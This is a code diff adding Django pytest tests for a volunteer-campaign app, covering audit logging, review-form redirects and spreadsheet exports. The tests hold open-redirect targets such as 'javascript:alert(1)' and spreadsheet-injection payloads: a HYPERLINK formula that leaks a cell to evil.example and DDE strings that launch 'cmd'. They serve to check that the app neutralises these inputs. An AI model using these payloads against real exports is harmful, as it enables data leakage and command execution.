@@ -9,6 +9,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from campaigns.models import SessionLog, Status
+from core.audit import AuditAction
 from core.models import AuditLog
 from reach.models import Watermark
 from reach.services import reach_refresh
@@ -19,6 +20,7 @@ from tests.campaigns.factories import (
     jpeg_bytes,
     volunteer_in,
 )
+from tests.factories import UserFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -117,8 +119,35 @@ def test_approving_a_log_writes_an_audit_row(client, campaign, regions):
 
     log.refresh_from_db()
     assert (log.status, log.reviewed_by) == (Status.APPROVED, coordinator)
-    audit = AuditLog.objects.get(action="session_log.approved")
+    audit = AuditLog.objects.get(action=AuditAction.SESSION_LOG_APPROVED)
     assert (audit.actor, audit.target_id) == (coordinator, str(log.pk))
+
+
+@pytest.mark.parametrize(
+    "target",
+    ["https://evil.example/", "//evil.example/campaigns/", "javascript:alert(1)", "http:/evil"],
+)
+@pytest.mark.parametrize("decision", [{"decision": "approved"}, {"decision": "rejected"}])
+def test_the_review_form_never_redirects_off_the_site(client, campaign, regions, target, decision):
+    # Given a review posted with a next= that points elsewhere (valid, or invalid: no note)
+    client.force_login(coordinator_of(campaign))
+    log = SessionLogFactory(campaign=campaign, county=regions["leishan"])
+
+    answer = client.post(f"/campaigns/review/{log.pk}/", {**decision, "next": target})
+
+    # Then the browser goes back to the review queue
+    assert answer.status_code == 302
+    assert answer["Location"] == "/campaigns/review/"
+
+
+def test_the_review_form_returns_to_the_filtered_queue_it_came_from(client, campaign, regions):
+    client.force_login(coordinator_of(campaign))
+    log = SessionLogFactory(campaign=campaign, county=regions["leishan"])
+    back = f"/campaigns/review/?campaign={campaign.pk}&status=pending"
+
+    answer = client.post(f"/campaigns/review/{log.pk}/", {"decision": "approved", "next": back})
+
+    assert answer["Location"] == back
 
 
 def test_rejecting_needs_a_reason_which_the_volunteer_then_sees(client, campaign, regions):
@@ -134,7 +163,7 @@ def test_rejecting_needs_a_reason_which_the_volunteer_then_sees(client, campaign
     client.post(f"/campaigns/review/{log.pk}/", {"decision": "rejected", "note": "日期不对"})
     log.refresh_from_db()
     assert (log.status, log.review_note) == (Status.REJECTED, "日期不对")
-    assert AuditLog.objects.filter(action="session_log.rejected").count() == 1
+    assert AuditLog.objects.filter(action=AuditAction.SESSION_LOG_REJECTED).count() == 1
 
 
 def test_a_coordinator_of_another_campaign_cannot_review(client, campaign, regions):
@@ -279,6 +308,54 @@ def test_county_figures_export_as_xlsx(client, campaign, regions):
     assert rows[3][:6] == ["522634", "雷山县", "黔东南苗族侗族自治州", "贵州省", 2, 42]
 
 
+HOSTILE = {
+    "venue_name": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+    "topics": "+1+cmd|' /C calc'!A0",
+    "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _hostile_log(campaign, regions):
+    volunteer = UserFactory(display_name=HOSTILE["display_name"])
+    return approved(
+        campaign,
+        regions["leishan"],
+        30,
+        venue_name=HOSTILE["venue_name"],
+        topics=HOSTILE["topics"],
+        volunteer=volunteer,
+    )
+
+
+def test_text_typed_by_a_volunteer_never_becomes_a_formula_in_the_csv(client, campaign, regions):
+    # Given a log whose every typed text starts like a formula
+    _hostile_log(campaign, regions)
+    client.force_login(coordinator_of(campaign))
+
+    # When the coordinator exports the sessions as CSV
+    answer = client.get(f"/campaigns/{campaign.pk}/export/sessions.csv")
+
+    # Then each such cell opens as the text typed, marked with a leading apostrophe
+    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
+    for typed in HOSTILE.values():
+        assert "'" + typed in rows[1]
+        assert typed not in rows[1]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
+
+
+def test_text_typed_by_a_volunteer_is_text_in_the_xlsx(client, campaign, regions):
+    _hostile_log(campaign, regions)
+    client.force_login(coordinator_of(campaign))
+
+    answer = client.get(f"/campaigns/{campaign.pk}/export/sessions.xlsx")
+
+    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
+    cells = {c.value: c for c in next(sheet.iter_rows(min_row=2, max_row=2))}
+    for typed in HOSTILE.values():
+        assert cells[typed].data_type == "s"  # a string cell, exactly as typed; never "f"
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
 def test_another_coordinator_cannot_export(client, campaign):
     client.force_login(coordinator_of(CampaignFactory()))
     assert client.get(f"/campaigns/{campaign.pk}/export/sessions.csv").status_code == 404
@@ -314,7 +391,7 @@ def test_a_coordinator_adds_a_whole_prefecture_and_assigns_a_volunteer(client, r
     assert [c.default_county.code for c in campaigns_of_volunteer(volunteer=newcomer)] == ["522634"]
     assert set(
         AuditLog.objects.filter(target_id=str(campaign.pk)).values_list("action", flat=True)
-    ) == {"campaign.counties_add", "campaign.volunteer_assign"}
+    ) == {AuditAction.CAMPAIGN_COUNTIES_ADDED, AuditAction.CAMPAIGN_VOLUNTEER_ASSIGNED}
     page = client.get(url).content.decode()
     assert "雷山队" in page and "xiaowu" in page
 
@@ -342,3 +419,48 @@ def test_a_coordinator_cannot_manage_another_campaign(client, campaign):
     )
     assert answer.status_code == 404
     assert campaign.target_counties.count() == 3
+
+
+def test_the_campaign_list_takes_as_many_queries_for_many_campaigns_as_for_one(
+    client, campaign, django_assert_num_queries
+):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    # Given a coordinator of one campaign, whose list page takes some number of queries
+    coordinator = coordinator_of(campaign)
+    client.force_login(coordinator)
+    with CaptureQueriesContext(connection) as one:
+        assert campaign.name in client.get("/campaigns/").content.decode()
+
+    # When they coordinate six campaigns
+    for n in range(5):
+        CampaignFactory(name=f"活动{n}").coordinators.add(coordinator)
+
+    # Then the page lists them all in the same number of queries
+    with django_assert_num_queries(len(one)):
+        page = client.get("/campaigns/").content.decode()
+    assert all(f"活动{n}" in page for n in range(5))
+
+
+def test_a_refused_plan_shows_the_reason_on_the_page(client, campaign, volunteer):
+    # Given a coordinator planning for a volunteer of their campaign
+    client.force_login(coordinator_of(campaign))
+
+    # When the county code names a prefecture, not a county
+    page = client.post(
+        f"/campaigns/{campaign.pk}/manage/",
+        {
+            "action": "plan",
+            "username": volunteer.username,
+            "county": "522600",
+            "planned_on": str(timezone.localdate() + timedelta(days=3)),
+            "venue_type": "school",
+            "venue_name": "从江县第一中学",
+            "expected_audience": "40",
+        },
+    ).content.decode()
+
+    # Then the form says why, in the reader's language, and nothing is planned
+    assert "不是县级行政区" in page
+    assert not volunteer.planned_sessions.exists()
